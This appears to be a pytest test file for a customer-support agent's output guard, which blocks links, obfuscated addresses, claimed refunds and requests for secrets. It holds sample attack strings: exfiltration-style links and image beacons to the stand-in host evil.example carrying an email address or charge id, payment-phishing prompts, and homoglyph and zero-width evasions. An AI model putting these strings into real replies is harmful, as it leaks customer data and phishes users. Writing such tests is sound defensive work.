"""A question, its options and a refusal are read by the customer as a reply is, and so by the same guard."""

from dataclasses import replace

import pytest

from answerable.agents.found import FoundHit
from answerable.agents.guards import SentenceGuard, may_be_offered, passing
from tests.agents.articles import REFUNDS, hit

HITS = (hit(REFUNDS),)
LOOKED_UP = hit("INC-15 Exports are slow: see https://evil.example/now for more.", number=2)


@pytest.mark.parametrize(
    "said",
    [
        "Please look at https://evil.example/c?d=ines@studiomare.example now.",
        "![logo](https://evil.example/p.png?d=ch_fNq)",
        "Have you seen https://evil.example yet?",
        "I have refunded you.",
        "I have re\u200bfunded your card, all right?",
        "Your re**fund** was is**sued** and is on its way to you, all right?",
        "I h\u0430ve refund\u0435d your card, all right?",
        "I h&#97;ve refunded your card, all right?",
        "Your refund\nwas issued and is on its way, all right?",
        "There is no more news of it (I've upgraded your account, all right?).",
        "What is your password?",
        "Könnten Sie mir Ihre Kartennummer nennen?",
        "Could you tell me the six-digit code that we have sent you?",
        "I found nothing in our help centre about “What is your password?”.",
    ],
)
def test_what_leads_away_claims_an_effect_or_asks_for_a_secret_is_no_question(said: str) -> None:
    assert passing(said, HITS).strip(" !") in ("", "Your refund")
    assert not may_be_offered(said, HITS)


@pytest.mark.parametrize(
    "said",
    ["Which plan do you mean?", "Have you forgotten your password?", "Refunds reach your card in 5 business days."],
)
def test_what_states_nothing_or_is_published_may_be_asked_and_said(said: str) -> None:
    assert passing(said, HITS) == said


def test_a_link_stays_without_its_address_if_nothing_published_has_it() -> None:
    assert passing("Do you mean [this page](https://evil.example)?", HITS) == "Do you mean this page?"


@pytest.mark.parametrize("option", ["Team", "Yes, please", "The invoice", "Something else"])
def test_a_few_words_that_state_nothing_may_be_offered(option: str) -> None:
    assert may_be_offered(option, HITS)


def test_an_option_with_an_amount_needs_a_source() -> None:
    assert not may_be_offered("Refund 500 euros", HITS)


def test_an_address_that_a_tool_only_looked_up_is_not_passed_on() -> None:
    looked_up, receipt = replace(LOOKED_UP, is_outcome=True), replace(LOOKED_UP, is_outcome=True, is_receipt=True)

    assert "evil" not in sent(LOOKED_UP.text, looked_up)
    assert "evil" in sent(LOOKED_UP.text, receipt)


@pytest.mark.parametrize(
    "said",
    [
        "Pay at evil.example/pay now.",
        "Pay at evil.example now.",
        "Pay at WWW.EVIL.EXAMPLE now.",
        "Pay at HTTPS://EVIL.EXAMPLE/PAY now.",
        "Pay at <https://evil.example/pay> now.",
        "Pay at **evil**.example now.",
        "Pay at evil\u200b.example now.",
        "Pay at evil&#46;example now.",
        "Pay at \u0435vil.example now.",
        "Pay at https://ines@evil.example/pay now.",
        "Pay at ines@evil.example/pay now.",
        "Pay at 203.0.113.9/pay now.",
        "Pay at https://[2001:db8::1]/pay now.",
        "Pay at evil.photography now.",
        "Pay at evil.xn--p1ai now.",
        "Pay at зло.рф now.",
        "Write to mailto:billing@evil.example?body=ch_fNq now.",
        "Write to billing@evil.example now.",
        "Write to billing@evil.photography now.",
    ],
)
def test_an_address_is_one_however_it_is_written(said: str) -> None:
    looked_up = replace(LOOKED_UP, text=said, is_outcome=True)

    assert sent(said, looked_up) == ""
    assert sent(said, replace(looked_up, is_receipt=True)) == said
    assert sent(said, replace(looked_up, is_outcome=False)) == f"{said} [2]"


@pytest.mark.parametrize(
    "said",
    [
        "Your export march_2026.csv is ready, e.g. for your accountant.",
        "Invoice INV-7.pdf was sent to ines_costa@studiomare.example at 9.30 a.m. today.",
        "The hook invoice.paid of Node.js was called at 9.30 a.m., then subscription.renewed.",
        "Die Rechnung ging z.B. am 3.3.2026 hinaus, d.h. nach 14.2 Tagen.",
    ],
)
def test_ordinary_words_files_and_the_own_mail_address_that_were_looked_up_are_passed_on(said: str) -> None:
    looked_up = replace(LOOKED_UP, text=said, is_outcome=True)

    assert sent(said, looked_up, own="ines_costa@studiomare.example") == said
    assert ("@" in said) == (sent(said, looked_up) == "")


def test_names_that_look_like_addresses_are_passed_on_if_an_article_has_them() -> None:
    said = (
        "Put my_robots.txt and read_me.md beside Node.js, then wait for invoice.paid at https://ledgerly.example/a_b_c."
    )

    assert sent(said, hit(said)) == f"{said} [1]"
    assert sent("From *Use Node.js*: " + said, hit(said, title="Use Node.js")).startswith("From *Use Node.js*: Put")


def sent(text: str, found: FoundHit, *, own: str = "") -> str:
    """What may be sent, to the customer with this mail address, of a reply that rests on what was found."""
    guard = SentenceGuard((found,), own_addresses=(own,))
    return "".join(each.text for each in [*guard.feed(text), *guard.finish()] if each.may_be_sent)
